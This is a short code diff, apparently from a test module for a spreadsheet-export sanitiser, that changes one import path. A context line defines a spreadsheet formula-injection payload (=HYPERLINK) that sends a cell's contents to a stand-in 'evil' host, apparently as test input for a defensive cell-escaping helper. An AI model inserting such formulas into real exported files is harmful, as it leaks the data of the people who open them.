@@ -10,7 +10,7 @@ from application.commands.partners import RegisterPartner
 from application.service import Caller
 from application.spreadsheet import safe_cell
 from infrastructure.audit_chain import raw_log
-from interfaces.cli_audit import _write
+from interfaces.cli_audit_export import _write
 
 HYPERLINK = '=HYPERLINK("http://evil/?"&A2,"click")'
 
